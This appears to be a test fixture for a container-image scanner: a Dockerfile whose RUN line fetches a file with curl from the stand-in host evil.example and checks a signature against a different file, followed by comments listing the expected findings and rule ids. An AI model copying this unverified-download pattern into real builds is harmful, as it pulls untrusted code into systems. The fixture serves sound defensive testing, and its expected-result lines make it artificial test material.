FROM alpine:3.20@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa
RUN curl -o /a https://evil.example/a && curl -o /b.asc https://evil.example/b.asc && gpg --verify /b.asc /b
USER app
# expect: download 2 high "curl fetches https://evil.example/a to /a: not verified"
# expect-count: 4
# expect-ids: VR101-c33602e201 VR301-ada4fe58ba VR301-ccd66fd899 VR501-e064bac1a6
